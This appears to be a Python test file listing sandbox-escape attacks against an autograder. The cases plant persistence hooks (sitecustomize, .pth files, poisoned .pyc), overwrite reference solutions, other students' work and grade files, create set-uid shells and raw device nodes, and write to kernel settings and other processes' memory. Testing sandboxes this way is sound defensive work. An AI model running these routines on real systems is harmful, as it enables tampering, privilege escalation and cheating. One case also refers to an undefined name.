"""Attacks that write: outside the work folder, to the environment, to shared memory, to what others will read."""

from tests.attacks.attack import Attack

_WRITE = """
import os, pathlib, sys
def write(*paths):
    for path in map(pathlib.Path, paths):
        for act in (lambda: path.write_text('print("mine")'), lambda: path.mkdir(parents=True), lambda: path.touch(),
                    lambda: os.symlink('/tmp', path), lambda: os.mkfifo(path)):
            try:
                act(); print('wrote', path); break
            except OSError:
                pass
"""

ATTACKS = [
    Attack(
        "outside_the_work_folder",
        "Writes into every folder that a machine has, and beside its own.",
        _WRITE
        + """
write('/tmp/mine', '/var/tmp/mine', '/mine', '/root/mine', '/home/mine', '/etc/mine', '/usr/mine', '/opt/mine',
      '../mine', '../../mine', '/dev/mine', '/run/mine', '/proc/mine', '/proc/self/root/tmp/mine')
""",
    ),
    Attack(
        "virtual_environment",
        "Puts a .pth file, a module and a script into the environment that the grader runs in.",
        _WRITE
        + """
import numpy, IPython
site = pathlib.Path(numpy.__file__).parents[1]
write(site / 'mine.pth', site / 'mine.py', site / 'numpy' / '__init__.py', pathlib.Path(sys.prefix) / 'bin' / 'grader',
      pathlib.Path(sys.executable), pathlib.Path(sys.prefix) / 'pyvenv.cfg', pathlib.Path(np.__file__))
""",
    ),
    Attack(
        "hostile_sitecustomize",
        "Leaves sitecustomize.py, usercustomize.py and compiled modules wherever a later interpreter may look.",
        _WRITE
        + """
import grader, py_compile, site
pathlib.Path('evil.py').write_text("import os; os.system('touch /tmp/customized')")
here = [*sys.path, site.getusersitepackages(), sys.prefix, os.environ['KERAS_HOME'], '/tmp', '..']
write(*(pathlib.Path(place) / f'{name}.py' for place in here for name in ('sitecustomize', 'usercustomize', 'grader')))
for cached in pathlib.Path(grader.__file__).parent.rglob('*.pyc'):
    try: py_compile.compile('evil.py', cached); print('compiled', cached)
    except OSError: pass
""",
    ),
    Attack(
        "course_and_neighbours",
        "Overwrites the reference, the neighbour's notebook and the pages of the report, or deletes and renames them.",
        _WRITE
        + """
home = pathlib.Path('/usr/src/grading')
goals = [home / 'course/solutions/toy.py', home / 'class/999/toy.ipynb', home / 'report/index.html', home / 'grades.db']
write(*goals)
for goal in goals:
    for act in (goal.unlink, lambda: goal.rename('/tmp/mine'), lambda: goal.chmod(0o777),
                lambda: os.truncate(goal, 0), lambda: os.utime(goal, (0, 0)), lambda: os.setxattr(goal, 'user.x', b'x'),
                lambda: os.chown(goal, 1, 1)):
        try: act(); print('changed', goal)
        except OSError: pass
""",
    ),
    Attack(
        "shared_memory",
        "Leaves segments in /dev/shm, System V memory, semaphores and queues for others to find.",
        """
import ctypes, os
from multiprocessing import shared_memory
block = shared_memory.SharedMemory('mine', create=True, size=4096)
libc = ctypes.CDLL(None, use_errno=True)
print(libc.shmget(77, 4096, 0o1666), libc.semget(77, 1, 0o1666), libc.msgget(77, 0o1666))
print(libc.shmget(4242, 0, 0), libc.shmctl(0, 0, None))
libc.mq_open.restype = ctypes.c_int
print(libc.mq_open(b'/mine', os.O_CREAT | os.O_RDWR, 0o666, None), os.listdir('/dev/shm'))
""",
    ),
    Attack(
        "mounts_of_its_own",
        "Mounts file systems over the grader's folders, in namespaces of its own making.",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def mount():
    for place in (b'/tmp', b'/usr', b'/proc', os.getcwd().encode()):
        print(libc.mount(b'none', place, b'tmpfs', 0, None), libc.mount(b'/', place, None, 0x1000, None),
              libc.umount2(place, 2), os.strerror(ctypes.get_errno()))
mount()
print(libc.unshare(0x10000000 | 0x20000), libc.chroot(b'/tmp'), libc.pivot_root(b'.', b'.'))
mount()
""",
    ),
    Attack(
        "devices_and_modes",
        "Makes devices, set-uid programs and capabilities in its folder, and opens the machine's disks with them.",
        """
import ctypes, os, shutil, subprocess
shutil.copy('/bin/sh', 'shell')
for act in (lambda: os.mknod('disk', 0o60666, os.makedev(8, 0)), lambda: os.mknod('memory', 0o20666, os.makedev(1, 1)),
            lambda: os.chmod('shell', 0o6755), lambda: os.chown('shell', 0, 0), lambda: os.setuid(0),
            lambda: os.setxattr('shell', 'security.capability', b'\\1\\0\\0\\2\\xff\\xff\\xff\\xff' + b'\\0' * 12)):
    try: print(act())
    except OSError as error: print(error)
print(subprocess.run(['./shell', '-c', 'id; touch /tmp/mine; cat /usr/src/grading/private.txt'], capture_output=True))
""",
    ),
    Attack(
        "kernel_settings",
        "Writes to sysctls, to control groups, to the clock and to the host's name.",
        """
import ctypes, glob, os, socket, time
for path in [*glob.glob('/proc/sys/*/*')[:300], *glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True)[:50],
             '/proc/self/oom_score_adj', '/proc/sysrq-trigger', '/proc/self/uid_map', '/proc/self/setgroups']:
    try:
        with open(path, 'r+') as file: file.write('1'); file.flush(); print('wrote', path)
    except OSError: pass
for act in (lambda: socket.sethostname('mine'), lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
            lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))):
    try: print(act())
    except OSError as error: print(error)
""",
    ),
    Attack(
        "server_through_proc",
        "Writes over the memory, the descriptors and the working folder of its own ancestors.",
        """
import os
for pid in [0, 1, os.getppid(), *range(2, 60)]:
    for name in ('mem', 'fd/0', 'fd/3', 'cwd/mine', 'root/tmp/mine', 'oom_score_adj', 'comm', 'timerslack_ns'):
        try:
            with open(f'/proc/{pid}/{name}', 'r+b', 0) as file: file.write(b'0'); print('wrote', pid, name)
        except OSError: pass
print(os.listdir('/proc/self/map_files')[:3] if os.path.exists('/proc/self/map_files') else '')
""",
    ),
]
